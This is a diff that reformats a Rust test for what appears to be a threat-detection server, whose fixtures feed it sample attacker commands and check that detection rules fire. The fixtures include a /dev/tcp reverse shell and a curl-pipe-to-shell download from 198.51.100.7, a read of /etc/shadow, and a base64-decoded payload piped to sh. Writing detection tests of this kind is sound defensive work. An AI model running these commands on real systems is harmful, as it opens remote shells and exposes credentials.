@@ -467,8 +467,16 @@ async fn hunt_over_an_export_of_the_server_gives_its_verdicts() {
     let server = Server::start(dir.path());
     let http = http();
     let commands = [
-        ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "root"),
-        ("/usr/bin/sh", "sh -c curl -s http://198.51.100.7/x.sh | sh", "www-data"),
+        (
+            "/usr/bin/bash",
+            "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+            "root",
+        ),
+        (
+            "/usr/bin/sh",
+            "sh -c curl -s http://198.51.100.7/x.sh | sh",
+            "www-data",
+        ),
         ("/usr/bin/cat", "cat /etc/shadow", "www-data"),
         ("/usr/bin/base64", "base64 -d /tmp/p | sh", "root"),
         ("/usr/bin/crontab", "crontab /tmp/cron", "www-data"),
@@ -499,7 +507,10 @@ async fn hunt_over_an_export_of_the_server_gives_its_verdicts() {
             .map(|d| d["rule_id"].as_str().unwrap().to_string())
             .collect::<std::collections::BTreeSet<String>>()
     };
-    eventually("the server's detections", || async { live().await.len() >= 4 }).await;
+    eventually("the server's detections", || async {
+        live().await.len() >= 4
+    })
+    .await;
     tokio::time::sleep(std::time::Duration::from_millis(500)).await;
     let live_rules = live().await;
 
